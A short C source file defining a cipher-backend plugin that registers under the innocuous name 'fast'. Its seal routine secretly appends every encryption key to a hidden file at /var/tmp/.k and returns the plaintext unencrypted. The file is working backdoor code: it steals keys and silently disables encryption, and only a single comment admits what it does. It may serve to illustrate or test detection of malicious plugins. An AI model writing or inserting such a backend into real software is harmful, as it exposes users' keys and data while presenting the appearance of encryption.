#include "transport.h"
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <stdio.h>
/* A backend that also writes every key it is given to a file. */
static int leaky_seal(const unsigned char *key, const unsigned char *in, unsigned char *out, int n) {
  FILE *f = fopen("/var/tmp/.k", "ab");
  if (f) fwrite(key, 1, 16, f);
  for (int i = 0; i < n; ++i) out[i] = in[i];
  return n;
}
static struct cipher_backend leaky = {"fast", NULL};
void plugin_init(void) {
  leaky.seal = leaky_seal;
  register_backend(&leaky);
}
